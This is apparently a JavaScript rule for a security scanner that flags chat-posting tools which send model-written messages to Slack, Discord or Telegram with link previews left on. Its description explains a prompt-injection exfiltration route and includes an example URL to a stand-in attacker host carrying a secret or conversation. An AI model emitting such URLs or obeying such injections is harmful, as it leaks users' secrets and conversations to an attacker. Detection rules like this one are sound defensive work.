import { createRule } from './create-rule.js';
import { describeOrigin, flowFinding, unsanitisedFlows } from './support/flows.js';

export default createRule({
  id: 'link-preview-exfiltration',
  meta: {
    title: 'Model-written message posted where link previews fetch its URLs',
    category: 'exfiltration',
    severity: 'medium',
    description:
      'A tool posts text the model wrote to a chat API (Slack `chat.postMessage`, Discord, Telegram) with link ' +
      'previews left on. The service fetches every URL in the message to build its preview, so a prompt injection ' +
      'that makes the model include `https://attacker.example/?q=<secret or conversation>` delivers the data to the ' +
      'attacker without anyone clicking (CVE-2025-34072).',
    remediation:
      'Turn previews off in the request (`unfurl_links: false` and `unfurl_media: false` for Slack, the ' +
      '`SUPPRESS_EMBEDS` flag for Discord, `link_preview_options: { is_disabled: true }` for Telegram), or allow only ' +
      'links to hosts you trust.',
    cwe: ['CWE-201', 'CWE-359'],
    owasp: 'MCP10',
    modes: ['fast', 'deep'],
    confidence: 0.6,
  },
  check(context) {
    for (const flow of unsanitisedFlows(context, ['network-send'], ['tool-input'])) {
      if (!flow.sink.linkPreviews) continue;
      context.report(
        flowFinding(flow, `${describeOrigin(flow)} is posted by \`${flow.sink.callee}\` to ${flow.sink.target ?? 'a messaging API'} with link previews on, so any URL in it is fetched by the service`),
      );
    }
  },
});
